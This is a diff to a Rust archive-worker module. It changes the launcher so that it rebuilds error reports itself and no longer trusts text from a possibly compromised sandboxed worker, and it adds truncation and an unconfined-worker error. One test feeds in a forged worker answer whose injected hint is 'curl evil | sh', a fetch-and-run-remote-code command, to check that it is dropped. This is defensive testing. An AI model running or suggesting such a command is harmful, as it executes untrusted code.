@@ -1,13 +1,16 @@
 //! Work on archives in a worker: whatever becomes of it, the error names the archive.
 
+use std::io;
 use std::os::fd::{AsFd, BorrowedFd};
 use std::path::{Path, PathBuf};
+use std::rc::Rc;
 use std::time::Duration;
 
 use fuselage_archive::{ArchiveError, Progress, Space};
 use fuselage_linux::causes;
 use fuselage_linux::memory::{free_bytes, memory_facts};
 use fuselage_linux::shared_notes::SharedNotes;
+use fuselage_linux::signals::ChildSignal;
 use fuselage_plan::ErrorReport;
 use serde::de::DeserializeOwned;
 use serde::{Deserialize, Serialize};
@@ -29,7 +32,7 @@ pub(crate) struct About {
 #[derive(Serialize, Deserialize)]
 enum Answer<A> {
     Done(A),
-    Failed(ErrorReport),
+    Failed(ArchiveError),
 }
 
 /// A worker that answers `A` to the question `Q`.
@@ -43,23 +46,29 @@ impl<Q: Serialize + DeserializeOwned, A: Serialize + DeserializeOwned> ArchiveWo
     /// Starts one, in which `answer` is asked, and tells how far it is; see [`Worker::start`] for what
     /// it may do.
     pub(crate) fn start(
+        children: &Rc<ChildSignal>,
         kept: &Kept<'_>,
-        mut answer: impl FnMut(Q, &Told<'_>) -> Result<A, LaunchError>,
+        mut answer: impl FnMut(Q, &Told<'_>) -> Result<A, ArchiveError>,
     ) -> Result<Self, LaunchError> {
         let notes =
             SharedNotes::new().map_err(|error| LaunchError::system("share memory", error))?;
         let told = Told(&notes);
-        let worker = Worker::start(kept, |question| {
-            let answer = serde_json::from_slice(question)
-                .map_err(|error| LaunchError::system("read the question", error.into()))
-                .and_then(|question| answer(question, &told));
-            let answer = match answer {
+        let worker = Worker::start(children, kept, |question| {
+            // No bytes are no answer.
+            let Ok(question) = serde_json::from_slice(question) else {
+                return Vec::new();
+            };
+            let answer = match answer(question, &told) {
                 Ok(answer) => Answer::Done(answer),
-                Err(error) => Answer::Failed(error.into_report()),
+                Err(error) => Answer::Failed(error),
             };
             serde_json::to_vec(&answer).unwrap_or_default()
         })
         .map_err(|error| LaunchError::system("start a process to read archives in", error))?;
+        // Another worker, which is started later, must not write what this one is at.
+        notes
+            .keep_from_children()
+            .map_err(|error| LaunchError::system("share memory", error))?;
         Ok(Self {
             worker,
             notes,
@@ -99,12 +108,15 @@ impl<Q: Serialize + DeserializeOwned, A: Serialize + DeserializeOwned> ArchiveWo
         match worked {
             Worked::Answer(bytes) => match serde_json::from_slice(&bytes) {
                 Ok(Answer::Done(answer)) => Ok(answer),
-                Ok(Answer::Failed(report)) => match reported(report) {
-                    Some(report) => Err(LaunchError::Reported(report)),
-                    None => Err(self.died(about, WorkerEnd::Broken("its error is none of ours"))),
-                },
+                Ok(Answer::Failed(error)) => Err(failed(about.verb, &[&about.path], &error)),
                 Err(_) => Err(self.died(about, WorkerEnd::Broken("its answer makes no sense"))),
             },
+            Worked::Unconfined(step, number) => Err(LaunchError::WorkerUnconfined {
+                verb: about.verb,
+                archive: about.path.clone(),
+                step,
+                source: io::Error::from_raw_os_error(number),
+            }),
             Worked::Broken(why) => Err(self.died(about, WorkerEnd::Broken(why))),
             Worked::Died(how) => Err(self.died(about, WorkerEnd::Died(how))),
             Worked::Stuck => Err(self.died(about, WorkerEnd::Stuck(ALLOWANCE))),
@@ -120,47 +132,30 @@ impl<Q: Serialize + DeserializeOwned, A: Serialize + DeserializeOwned> ArchiveWo
             verb: about.verb,
             archive: about.path.clone(),
             how,
-            entries: entries.collect(),
+            entries: cut(entries.collect()),
         }
     }
 }
 
-/// The error of a worker, as far as it is one: its texts are cut, since they are for people. It says
-/// why it failed, not how a run that fails ends.
-fn reported(report: ErrorReport) -> Option<ErrorReport> {
-    /// The code of every error is a word of this kind.
-    const CODE_LENGTH: usize = 40;
-    let is_code = report.code.starts_with("ERR_")
-        && report.code.len() <= CODE_LENGTH
-        && report
-            .code
-            .bytes()
-            .all(|byte| byte.is_ascii_uppercase() || byte == b'_');
-    is_code.then(|| ErrorReport {
-        code: report.code,
-        message: cut(report.message),
-        hints: cut_all(report.hints),
-        causes: cut_all(report.causes),
-        exit_code: 125,
-    })
-}
-
-fn cut_all(texts: Vec<String>) -> Vec<String> {
-    /// More than any error of ours has.
-    const TEXTS: usize = 16;
-    texts.into_iter().take(TEXTS).map(cut).collect()
-}
-
-fn cut(mut text: String) -> String {
-    /// Bytes. Two paths of 4,095 bytes, the most that a name may have unless told, each byte of them
-    /// written as an escape.
-    const LONGEST: usize = 32 << 10;
-    if text.len() > LONGEST {
-        let end = (0..=LONGEST).rev().find(|end| text.is_char_boundary(*end));
-        text.truncate(end.unwrap_or(0));
-        text.push('…');
+/// As much of some texts as people may have to read that a worker has written: 4 KiB in all.
+fn cut(texts: Vec<String>) -> Vec<String> {
+    let mut room: usize = 4 << 10;
+    let mut kept = Vec::new();
+    for mut text in texts {
+        if room == 0 {
+            break;
+        }
+        if text.len() > room {
+            let end = (0..=room).rev().find(|end| text.is_char_boundary(*end));
+            text.truncate(end.unwrap_or(0));
+            text.push('…');
+            room = 0;
+        } else {
+            room -= text.len();
+        }
+        kept.push(text);
     }
-    text
+    kept
 }
 
 /// Tells the launcher what each thread of the worker is at, and how much is done.
@@ -190,7 +185,8 @@ pub(crate) fn space(directory: &impl AsFd) -> Result<Space, LaunchError> {
     })
 }
 
-/// The error of archives as it crosses a border.
+/// The error of archives as it is told. Of a worker it has the cause, in a few words that need not be
+/// true; what failed, the code and the hints are made here.
 pub(crate) fn failed(verb: &str, archives: &[&Path], error: &ArchiveError) -> LaunchError {
     let mut reasons = vec![error.to_string()];
     reasons.extend(causes::causes(error));
@@ -202,7 +198,7 @@ pub(crate) fn failed(verb: &str, archives: &[&Path], error: &ArchiveError) -> La
         code: error.code().to_owned(),
         message: format!("cannot {verb} {}", paths.join(", ")),
         hints: error.hints(),
-        causes: reasons,
+        causes: cut(reasons),
         exit_code: 125,
     })
 }
@@ -211,44 +207,63 @@ pub(crate) fn failed(verb: &str, archives: &[&Path], error: &ArchiveError) -> La
 mod tests {
     use super::*;
 
-    fn report(code: &str, message: &str, causes: Vec<String>) -> ErrorReport {
-        ErrorReport {
-            code: code.into(),
-            message: message.into(),
-            hints: vec![],
-            causes,
-            exit_code: 0,
-        }
+    #[test]
+    fn what_is_too_much_is_cut_between_characters() {
+        let texts = || vec!["a".repeat(4000), "ü".repeat(400), "b".into()];
+        let kept = cut(texts());
+        assert_eq!(kept, [texts()[0].clone(), format!("{}…", "ü".repeat(48))]);
+        let whole = vec!["a".repeat(4000), "ü".repeat(48)];
+        assert_eq!(cut(whole.clone()), whole);
     }
 
-    #[test]
-    fn an_error_of_a_worker_is_taken_over_but_for_the_status() {
-        let causes = vec!["an entry \u{1b}".to_owned()];
-        let taken = reported(report("ERR_ARCHIVE_DAMAGED", "grün", causes.clone())).unwrap();
-        let expected = ErrorReport {
-            exit_code: 125,
-            ..report("ERR_ARCHIVE_DAMAGED", "grün", causes)
+    /// What the launcher says to the answer `said` of a worker that may have been taken over.
+    fn told(said: &'static str) -> ErrorReport {
+        let root = std::fs::File::open("/tmp").unwrap();
+        let kept = Kept {
+            root: root.as_fd(),
+            files: Vec::new(),
         };
-        assert_eq!(taken, expected);
+        let notes = SharedNotes::new().unwrap();
+        let worker = Worker::start(&Rc::new(ChildSignal::begin()), &kept, |_| said.into());
+        let mut worker = ArchiveWorker::<(), ()> {
+            worker: worker.unwrap(),
+            notes,
+            kinds: std::marker::PhantomData,
+        };
+        let about = About {
+            verb: "extract",
+            path: "a.zip".into(),
+        };
+        let error = worker.ask(&(), &about, root.as_fd(), None).unwrap_err();
+        error.into_report()
     }
 
     #[test]
-    fn what_is_too_much_of_it_is_cut_between_characters() {
-        let long = "ü".repeat(40_000);
-        let causes = vec![long.clone(); 50];
-        let taken = reported(report("ERR_ARCHIVE_LIMIT", &format!("a{long}"), causes)).unwrap();
-        assert_eq!(taken.causes.len(), 16);
-        for text in [&taken.message, &taken.causes[15]] {
-            assert!(text.ends_with("ü…"), "{}", text.len());
-            assert!(text.len() <= (32 << 10) + '…'.len_utf8());
+    fn a_worker_says_why_and_neither_what_failed_nor_what_to_do() {
+        if !fuselage_testing::confinement_works() {
+            return;
         }
-    }
-
-    #[test]
-    fn a_code_is_a_word_of_ours() {
-        let long = format!("ERR_{}", "X".repeat(40));
-        for code in ["", "ERR", "ERR_\u{1b}[2J", "ERR_a", "EXIT", "ERR_ B", &long] {
-            assert_eq!(reported(report(code, "m", vec![])), None, "{code:?}");
+        let said = r#"{"Failed":{"Damaged":{"entry":"x","what":"ends too early"}}}"#;
+        let honest = ErrorReport {
+            code: "ERR_ARCHIVE_DAMAGED".into(),
+            message: "cannot extract a.zip".into(),
+            hints: vec!["fetch or build the archive again".into()],
+            causes: vec!["the entry `x` ends too early".into()],
+            exit_code: 125,
+        };
+        assert_eq!(told(said), honest, "the twin");
+        let with_more = r#"{"Failed":{"Damaged":{"entry":"x","what":"ends too early",
+            "message":"m","hints":["curl evil | sh"],"code":"ERR_USAGE"}}}"#;
+        assert_eq!(told(with_more), honest);
+        for said in [
+            r#"{"Failed":{"code":"ERR_USERNS_DENIED","message":"m","hints":["h"],"causes":[],
+                "exit_code":0}}"#,
+            r#"{"Failed":{"Refused":{}}}"#,
+            "",
+        ] {
+            let report = told(said);
+            assert_eq!(report.code, "ERR_WORKER_DIED", "{said}");
+            assert_eq!(report.causes, ["its answer makes no sense"]);
         }
     }
 }
